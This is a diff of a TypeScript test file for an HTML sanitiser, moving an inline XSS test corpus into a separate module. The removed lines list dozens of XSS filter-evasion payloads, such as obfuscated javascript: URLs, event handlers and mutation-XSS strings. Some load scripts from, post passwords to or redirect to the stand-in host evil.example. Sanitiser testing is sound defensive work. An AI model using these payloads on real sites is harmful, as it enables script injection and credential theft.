@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import sanitizeHtml from 'sanitize-html';
 import { describe, it } from 'vitest';
 import { sanitiseHtml, sanitiseWithReport } from '../src/domain/html-sanitiser';
+import { XSS_CORPUS } from './support/xss-corpus';
 
 /*
  * The HTML components' sanitiser against an XSS corpus in the manner of OWASP's filter-evasion
@@ -57,108 +58,6 @@ function unsafe(html: string): string | undefined {
   return undefined;
 }
 
-const XSS_CORPUS: readonly string[] = [
-  // script tags, all casings and shapes
-  '<script>alert(1)</script>',
-  '<SCRIPT>alert(1)</SCRIPT>',
-  '<ScRiPt>alert(1)</sCrIpT>',
-  '<script src="https://evil.example/x.js"></script>',
-  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
-  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
-  '<script>alert(1)',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<p>before<script type="text/javascript">document.cookie</script>after</p>',
-  // event handlers
-  '<img src=x onerror=alert(1)>',
-  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
-  '<img src="https://cdn.example.com/a.png" ONLOAD="alert(1)">',
-  '<p onclick="alert(1)" onmouseover=alert(2)>Click</p>',
-  '<body onload=alert(1)>',
-  '<div onpointerenter="alert(1)">hover</div>',
-  '<a href="/x" onfocus=alert(1) autofocus>x</a>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror="alert(1)"></video>',
-  '<audio src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>',
-  // svg and math tricks
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<math href="javascript:alert(1)">CLICK</math>',
-  // javascript:, vbscript:, data: URLs with entities, whitespace, newlines and case
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="  javascript:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
-  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
-  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
-  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<img src="javascript:alert(1)">',
-  '<IMG SRC=`javascript:alert("RSnake says, XSS")`>',
-  '<img src="http://insecure.example/a.png">',
-  '<a href="//evil.example/phish">x</a>',
-  '<blockquote cite="javascript:alert(1)">q</blockquote>',
-  // iframes: srcdoc, foreign hosts, javascript: sources, look-alike hosts
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example/embed"></iframe>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/x"></iframe>',
-  '<iframe src="https://evil.example/?https://player.vimeo.com/video/1"></iframe>',
-  '<iframe src="//player.vimeo.com/video/1"></iframe>',
-  '<iframe src="http://player.vimeo.com/video/1"></iframe>',
-  '<iframe src="https://www.youtube.com/embed/x"></iframe>',
-  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
-  '<frameset><frame src="javascript:alert(1)"></frameset>',
-  // styles with expressions
-  '<div style="width: expression(alert(1));">x</div>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<style>@import "https://evil.example/x.css"; body{background:url("javascript:alert(1)")}</style>',
-  '<link rel="stylesheet" href="javascript:alert(1)">',
-  // meta, form, base, object, embed
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
-  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
-  '<button formaction="javascript:alert(1)">x</button>',
-  '<base href="https://evil.example/">',
-  '<object data="javascript:alert(1)"></object>',
-  '<object type="text/x-scriptlet" data="https://evil.example/scriptlet.html"></object>',
-  '<embed src="https://evil.example/x.swf">',
-  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  '<applet code="x.class"></applet>',
-  // nested, malformed and unclosed tags
-  '<img """><script>alert("XSS")</script>">',
-  '<img src="x" alt="x"onerror="alert(1)">',
-  '<a href="/x"title="y"onmouseover=alert(1)>x</a>',
-  '<IMG SRC="jav&#x0D;ascript:alert(1);">',
-  '<<img src=x onerror=alert(1)//<',
-  '<div><p><img/src=x/onerror=alert(1)></p></div',
-  '<p>unclosed <b>bold <i>italic <script>alert(1)',
-  '<!--<img src="--><img src=x onerror=alert(1)//">',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<?xml version="1.0"?><script>alert(1)</script>',
-  // template, noscript and mutation-XSS strings
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<a href="/x">ok</a><a href="javascript:alert(1)" title="</a><img src=x onerror=alert(1)>">x</a>',
-  '<table><td><img src=x onerror=alert(1)></td></table>',
-  '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">escaped</p>',
-  '<div id="x"><p>a</p><select><template><style><!--</style><a rel="--></template></select><img src=x onerror=alert(1)>">',
-];
 
 describe('HTML component sanitiser', () => {
   it('has an XSS corpus of at least 40 payloads, each a different string', () => {
